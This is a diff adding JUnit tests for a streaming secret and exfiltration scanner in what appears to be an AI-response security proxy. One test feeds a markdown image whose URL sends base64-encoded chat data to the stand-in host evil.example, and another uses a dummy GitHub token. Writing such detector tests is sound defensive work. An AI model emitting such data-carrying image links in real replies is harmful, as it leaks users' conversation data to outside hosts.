@@ -1,0 +1,71 @@
+package io.infershield.proxy.security;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+
+class StreamScannerTest {
+
+    private static final String TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5";
+
+    @Test
+    void secretSplitAcrossTwoChunksIsCaughtWithAbsoluteOffsets() {
+        StreamScanner s = StreamScanner.forResponses(Set.of());
+        List<Finding> found = new ArrayList<>();
+        String prefix = "x".repeat(5000) + " here is the token: ";
+        found.addAll(s.feed(prefix + TOKEN.substring(0, 17)));
+        found.addAll(s.feed(TOKEN.substring(17) + " and more text"));
+        found.addAll(s.finish());
+        assertEquals(1, found.size(), found::toString);
+        assertEquals("github-pat", found.get(0).type());
+        assertEquals(prefix.length(), found.get(0).start());
+        assertEquals(prefix.length() + TOKEN.length(), found.get(0).end());
+    }
+
+    @Test
+    void tokenArrivingOneCharAtATimeIsReportedOnce() {
+        StreamScanner s = StreamScanner.forResponses(Set.of());
+        List<Finding> found = new ArrayList<>();
+        String text = "key " + TOKEN + " done";
+        for (char c : text.toCharArray()) {
+            found.addAll(s.feed(String.valueOf(c)));
+        }
+        found.addAll(s.finish());
+        assertEquals(1, found.size(), found::toString);
+        assertEquals(4, found.get(0).start());
+    }
+
+    @Test
+    void findingAtTheVeryEndIsReportedWhenTheStreamFinishes() {
+        StreamScanner s = StreamScanner.forResponses(Set.of());
+        assertTrue(s.feed("mail me at jane@example.com").isEmpty());
+        List<Finding> last = s.finish();
+        assertEquals(1, last.size());
+        assertEquals("email", last.get(0).type());
+    }
+
+    @Test
+    void markdownImageCarryingDataToAnOutsideHostIsExfiltration() {
+        StreamScanner s = StreamScanner.forResponses(Set.of("github.com"));
+        List<Finding> found = new ArrayList<>(s.feed("Done! ![img](https://evil.example/p.png?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF0"));
+        found.addAll(s.feed(") ok ![ok](https://github.com/a.png?x=0123456789abcdefghij)"));
+        found.addAll(s.finish());
+        assertEquals(1, found.size(), found::toString);
+        assertEquals(Category.EXFILTRATION, found.get(0).category());
+        assertEquals("markdown_image", found.get(0).type());
+        assertEquals(6, found.get(0).start());
+    }
+
+    @Test
+    void memoryStaysBoundedOnALongStream() {
+        StreamScanner s = new StreamScanner(List.of(new SecretDetector()), 256);
+        for (int i = 0; i < 20_000; i++) {
+            s.feed("lorem ipsum dolor sit amet ");
+        }
+        assertEquals(20_000L * 27, s.position());
+    }
+}
